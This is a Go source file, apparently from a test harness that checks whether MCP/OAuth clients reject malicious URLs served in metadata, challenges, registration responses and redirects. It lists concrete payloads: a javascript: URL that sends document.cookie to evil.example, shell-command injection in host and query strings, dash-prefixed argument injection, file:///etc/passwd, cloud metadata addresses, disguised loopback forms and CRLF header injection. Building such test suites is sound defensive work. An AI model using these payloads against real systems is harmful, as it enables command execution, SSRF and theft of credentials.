// Attacks by URLs: in the challenge, in both kinds of metadata, in the registration response, and in redirects.

package attack

import (
	"encoding/json"
	"net/http"
	"strings"
)

// word quotes a value for Server.Set of package demo.
func word(s string) string {
	quoted, _ := json.Marshal(s)
	return string(quoted)
}

// in returns an attack that puts a URL into a member of a response.
func in(name, what, place, address string) Attack {
	value := word(address)
	if strings.HasSuffix(place, "authorization_servers") {
		value = "[" + value + "]"
	}
	if place == aliases {
		value = `{"token_endpoint":` + value + `}`
	}
	endpoint, member, _ := strings.Cut(place, ".")
	return Attack{Name: "address/" + name, What: what, Words: []string{endpoint + ":set." + member + "=" + value}}
}

const (
	challenge  = "mcp.resource_metadata"
	issuers    = "resource-metadata.authorization_servers"
	authorize  = "metadata.authorization_endpoint"
	token      = "metadata.token_endpoint"
	register   = "metadata.registration_endpoint"
	revocation = "metadata.revocation_endpoint"
	aliases    = "metadata.mtls_endpoint_aliases"
)

func addresses() []Attack {
	return []Attack{
		in("challenge-http", "the challenge names a metadata URL with plain http", challenge, "http://evil.example/metadata"),
		in("challenge-file", "the challenge names a file: URL as the metadata URL", challenge, "file:///etc/passwd"),
		in("challenge-metadata-service", "the challenge names a cloud provider's metadata service as the metadata URL", challenge, "http://169.254.169.254/latest/meta-data/"),
		in("challenge-loopback", "a remote server's challenge names a loopback URL", challenge, "TRAP/admin"),
		in("challenge-dash", "the challenge names a metadata URL that begins with a dash", challenge, "--help"),
		in("challenge-long", "the challenge names a metadata URL of 50 kB", challenge, AS+"/"+strings.Repeat("a", 50_000)),
		in("issuer-javascript", "the authorization server is a javascript: URL", issuers, "javascript:alert(1)"),
		in("issuer-password", "the authorization server's URL contains a user name and a password", issuers, "https://user:password@as.attack.example"),
		in("issuer-lookalike", "the authorization server's host name contains a Cyrillic letter", issuers, "https://аs.attack.example"),
		in("issuer-loopback", "a remote server names a loopback URL as its authorization server", issuers, "https://TRAP-HOST"),
		in("issuer-spelt-loopback", "a remote server names 127.0.0.1 as its authorization server, written as a decimal number", issuers, "https://2130706433/"),
		in("issuer-zone", "a remote server names ::1 as its authorization server, with a zone", issuers, "https://[::1%25lo]"),
		in("issuer-newline", "the authorization server's URL contains a line break", issuers, AS+"\r\nX-Injected: yes"),
		in("issuer-escape", "the authorization server's URL contains an escape sequence", issuers, AS+"/\x1b[2J\x1b]0;owned\x07"),
		in("issuer-long", "the authorization server's URL is 100 kB long", issuers, AS+"/"+strings.Repeat("a", 100_000)),
		in("issuer-fragment", "the authorization server's URL has a fragment", issuers, AS+"#@evil.example"),
		in("authorize-javascript", "the authorization endpoint is a javascript: URL", authorize, "javascript:fetch('//evil.example/'+document.cookie)"),
		in("authorize-data", "the authorization endpoint is a data: URL with the attacker's page", authorize, "data:text/html,<script>alert(1)</script>"),
		in("authorize-file", "the authorization endpoint is a file: URL", authorize, "file:///usr/bin/calculator"),
		in("authorize-http", "the authorization endpoint uses plain http", authorize, "http://as.attack.example/authorize"),
		in("authorize-host-command", "the host of the authorization endpoint is a shell command (CVE-2025-6514)", authorize, "https://$(touch${IFS}owned).example/"),
		in("authorize-path-command", "the query of the authorization endpoint contains shell characters", authorize, AS+"/authorize?x=$(touch${IFS}owned)&y=`id`;z|&&a"),
		in("authorize-dash", "the authorization endpoint begins with a dash", authorize, "-Pfile:///tmp/owned"),
		in("authorize-loopback", "the authorization endpoint is a loopback URL", authorize, "TRAP/admin?do=it"),
		in("token-http", "the token endpoint uses plain http", token, "http://as.attack.example/token"),
		in("token-loopback", "the token endpoint is a loopback URL", token, "TRAP/token"),
		in("token-link-local", "the token endpoint is a cloud provider's metadata service", token, "https://169.254.169.254/token"),
		in("token-ipv6-loopback", "the token endpoint is a loopback URL, written as an IPv6 address", token, "https://[::ffff:127.0.0.1]/token"),
		in("token-nat64-loopback", "the token endpoint is a loopback address behind the NAT64 prefix", token, "https://[64:ff9b::7f00:1]/token"),
		in("token-6to4-link-local", "the token endpoint is a cloud provider's metadata service, written as a 6to4 address", token, "https://[2002:a9fe:a9fe::]/token"),
		in("token-this-network", "the token endpoint is an address of 0.0.0.0/8", token, "https://0.0.0.1/token"),
		in("alias-http", "the token endpoint for mutual TLS uses plain http", aliases, "http://as.attack.example/token"),
		in("alias-loopback", "the token endpoint for mutual TLS is a loopback URL", aliases, "TRAP/token"),
		in("registration-http", "the registration endpoint uses plain http", register, "http://as.attack.example/register"),
		in("revocation-http", "the revocation endpoint uses plain http", revocation, "http://as.attack.example/revoke"),
		in("registration-management", "the registration response names a management URL on another host", "register.registration_client_uri", Evil+"/client"),
		in("registration-management-port", "the registration response names a management URL on another port of the same host", "register.registration_client_uri", AS+":8443/client"),
		in("device-verification", "the verification URL of a device login is a javascript: URL", "device_authorization.verification_uri", "javascript:alert(1)"),
		{Name: "address/error-uri", What: "the error_uri of an OAuth error is a javascript: URL", Words: []string{
			`token:status=400,type=application/json,body="{\"error\":\"invalid_request\",\"error_uri\":\"javascript:alert(1)\"}"`}},
		redirect("metadata-to-http", "the metadata redirects to a URL with plain http", "http://evil.example/metadata", serverPath),
		redirect("metadata-to-loopback", "the metadata redirects to a loopback URL", "http://127.0.0.1:80/admin", serverPath),
		redirect("metadata-to-file", "the metadata redirects to a file: URL", "file:///etc/passwd", serverPath),
		hasOther(redirect("metadata-to-zone", "the metadata redirects to an address with a zone, which is no valid URL", "https://[fe80::1%lo]/metadata", serverPath)),
		hasOther(redirect("metadata-to-space", "the metadata redirects to a host name with a space", "https://evil example/metadata", serverPath)),
		redirect("resource-to-stranger", "the resource metadata redirects to another origin", Evil+"/metadata", resourcePath),
	}
}

// redirect returns an attack that makes an endpoint redirect.
func redirect(name, what, to, at string) Attack {
	return Attack{Name: "address/redirect-" + name, What: what, At: at, Do: func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Location", to)
		w.WriteHeader(http.StatusTemporaryRedirect)
	}}
}

// hasOther returns an attack whose metadata is also at the other well-known URLs.
func hasOther(a Attack) Attack {
	a.Set.ASM = "all"
	return a
}
